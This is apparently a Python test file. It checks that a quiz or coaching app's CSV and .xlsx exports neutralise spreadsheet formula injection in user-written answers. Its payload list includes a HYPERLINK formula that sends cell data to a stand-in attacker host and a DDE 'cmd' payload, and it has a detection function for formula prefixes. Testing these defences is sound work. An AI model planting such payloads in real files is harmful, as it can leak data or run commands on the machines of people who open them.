"""A leader's text in an export cannot run as a spreadsheet formula on a coach's machine.

Attacker: a leader who writes an answer that a coach or admin later opens from a CSV export
in Excel or LibreOffice, which run a cell as a formula when it starts with = + - @ (after
any blanks or control characters, which they skip), or with a tab or carriage return; or
from an .xlsx export, where a cell runs if it is stored as a formula rather than as text.
The CSV for Norwegian Excel (`;`, BOM) is held to the same rule as the plain one.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.services.exports import (
    PLAIN_CSV,
    CsvStyle,
    Export,
    ExportFormat,
    ExportKind,
    ExportRequest,
    build_export,
    excel_csv,
    export_bytes,
)
from storage.models import Answer
from tests.web import world as w

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    ' =cmd|" /C calc"!A0',
    "   +SUM(1,2)",
    "\t=1+1",
    "\r@SUM(A1)",
    "\n-2+3",
    "\u00a0=IMPORTXML(A1)",  # no-break space
    "\u200b=1+1",  # zero-width space
    "\x1b=1+1",  # a control character (PostgreSQL stores no NUL)
    "\t plain words after a tab",
    "-",
]


def runs_as_formula(cell: str) -> bool:
    """Tell whether a spreadsheet would read `cell` as a formula (or strip a control to one)."""
    if cell.startswith(("\t", "\r")):
        return True
    visible = cell.lstrip(" \t\r\n\x1b\u00a0\u200b")
    return visible[:1] in ("=", "+", "-", "@")


async def exported(sessions: async_sessionmaker[AsyncSession], answer_id: int, text: str) -> Export:
    """Store `text` as a leader's coach-visible answer; return the answers export."""
    async with sessions() as session, session.begin():
        answer = await session.get(Answer, answer_id)
        assert answer is not None
        answer.text = text
    async with sessions() as session:
        return await build_export(
            session, ExportRequest(ExportKind.ANSWERS), secret=w.SECRET, now=w.NOW
        )


async def exported_cells(
    sessions: async_sessionmaker[AsyncSession],
    answer_id: int,
    text: str,
    style: CsvStyle = PLAIN_CSV,
) -> list[str]:
    """Store `text` as a leader's coach-visible answer; return every cell of the CSV export."""
    export = await exported(sessions, answer_id, text)
    body = export_bytes(export, ExportFormat.CSV, style).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=style.delimiter))
    return [cell for row in rows[1:] for cell in row]


async def test_no_exported_cell_runs_as_a_formula(
    sessions: async_sessionmaker[AsyncSession],
) -> None:
    world = await w.build_world(sessions)
    for payload in PAYLOADS:
        cells = await exported_cells(sessions, world.shared_answer, payload)
        assert [c for c in cells if runs_as_formula(c)] == [], repr(payload)
        # Neutralised by one leading apostrophe; nothing the leader wrote is lost.
        assert "'" + payload in cells, repr(payload)


async def test_no_cell_of_the_csv_for_norwegian_excel_runs_as_a_formula(
    sessions: async_sessionmaker[AsyncSession],
) -> None:
    world = await w.build_world(sessions)
    for payload in [*PAYLOADS, "=1;2"]:
        cells = await exported_cells(sessions, world.shared_answer, payload, excel_csv("nb"))
        assert [c for c in cells if runs_as_formula(c)] == [], repr(payload)
        assert "'" + payload in cells, repr(payload)
    # A separator in the text stays inside its cell, so nothing after it starts a new cell.
    cells = await exported_cells(sessions, world.shared_answer, "ok;=1+1", excel_csv("nb"))
    assert "ok;=1+1" in cells and "=1+1" not in cells


async def test_no_cell_of_the_xlsx_is_a_formula(
    sessions: async_sessionmaker[AsyncSession],
) -> None:
    world = await w.build_world(sessions)
    for payload in PAYLOADS:
        data = export_bytes(
            await exported(sessions, world.shared_answer, payload), ExportFormat.XLSX
        )
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert sheets
            for name in sheets:
                xml = archive.read(name)
                # A formula is an <f> element in a cell; there must be none.
                assert b"<f>" not in xml and b"<f " not in xml, repr(payload)
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], repr(payload)
        values = {c.value for c in cells}
        # Stored as text, as written; only characters an .xlsx cannot hold become U+FFFD,
        # and a CR a line feed.
        assert payload.replace("\x1b", "\ufffd").replace("\r", "\n") in values, repr(payload)


async def test_ordinary_text_is_exported_unchanged(
    sessions: async_sessionmaker[AsyncSession],
) -> None:
    world = await w.build_world(sessions)
    for text in ("Plain words", " leading space, then words", "5 = five", "e-mail me"):
        assert text in await exported_cells(sessions, world.shared_answer, text)
